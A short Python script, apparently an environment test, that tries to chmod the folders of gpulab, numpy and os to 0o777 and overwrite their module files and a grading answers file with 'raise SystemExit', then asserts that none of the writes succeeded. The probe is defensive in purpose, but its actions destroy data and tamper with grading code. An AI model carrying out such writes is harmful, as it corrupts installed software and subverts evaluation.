import os
import sys
from pathlib import Path

import gpulab
import numpy

WROTE = []
for module in (gpulab, numpy, os):
    folder = Path(module.__file__).parent
    for path in (folder / "extra.py", Path(module.__file__), folder / "grading" / "checks" / "answers.py"):
        try:
            os.chmod(path.parent, 0o777)
            path.write_text("raise SystemExit")
            WROTE.append(path)
        except OSError:
            pass
assert not WROTE, WROTE
